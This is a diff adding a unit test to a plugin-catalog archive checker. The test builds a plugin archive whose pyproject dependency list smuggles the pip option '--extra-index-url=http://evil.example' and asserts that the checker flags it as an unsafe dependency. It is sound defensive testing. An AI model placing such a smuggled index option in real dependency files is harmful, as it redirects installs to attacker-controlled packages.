@@ -1,9 +1,12 @@
+import { createHash } from 'node:crypto';
 import { cpSync, mkdtempSync, readFileSync, rmSync, symlinkSync, unlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, describe, expect, it } from 'vitest';
 import { checkCatalogArchives } from './check-archives';
 import { loadCatalog } from './load-catalog';
+import { hashZip, readZipEntry } from './zip';
+import { buildYazlZip } from './zip/test-zips';
 
 const STARTER = join(import.meta.dirname, '../../../../catalog');
 const ROOT = mkdtempSync(join(tmpdir(), 'hub-check-archives-'));
@@ -32,6 +35,37 @@ describe('checkCatalogArchives', () => {
     const findings = await archiveFindings(dir);
     expect(findings.length).toBeGreaterThan(0);
     expect(new Set(findings.map((f) => f.code))).toEqual(new Set(['path.outside-tree']));
+  });
+
+  it('refuses an archive whose uv pyproject hands pip an option, at the pyproject line', async () => {
+    const dir = copyCatalog();
+    const file = join(dir, 'assets/plugins/fft-1.0.0.mpn');
+    const files = new Map<string, Buffer>();
+    for (const d of await hashZip(file)) files.set(d.name, await readZipEntry(file, d.name, 1 << 20));
+    const pyproject =
+      '[project]\nname = "fft"\ndependencies = ["numpy", "--extra-index-url=http://evil.example"]\n';
+    files.set('pyproject.toml', Buffer.from(pyproject));
+    const digest = createHash('sha256').update(pyproject).digest('hex');
+    const manifest = files
+      .get('manifest.yaml')!
+      .toString('utf8')
+      .replace(/^( {2}pyproject\.toml: )[0-9a-f]{64}$/m, `$1${digest}`);
+    files.set('manifest.yaml', Buffer.from(manifest));
+    files.set('plugin.yaml', Buffer.from(manifest));
+    const bytes = await buildYazlZip([...files].map(([name, data]) => ({ name, data })));
+    writeFileSync(file, bytes);
+    const entry = join(dir, 'plugins/fft/1.0.0.yaml');
+    writeFileSync(
+      entry,
+      readFileSync(entry, 'utf8')
+        .replace(/sha256: [0-9a-f]{64}/, `sha256: ${createHash('sha256').update(bytes).digest('hex')}`)
+        .replace(/size_bytes: \d+/, `size_bytes: ${bytes.length}`),
+    );
+    const findings = await archiveFindings(dir);
+    expect(findings.map((f) => [f.file, f.code, f.line])).toEqual([
+      ['assets/plugins/fft-1.0.0.mpn!pyproject.toml', 'archive.unsafe-dependency', 3],
+    ]);
+    expect(findings[0]!.message).toMatch(/"--extra-index-url=http:\/\/evil.example" is a pip option/);
   });
 
   it('finds nothing wrong with the starter catalog', async () => {
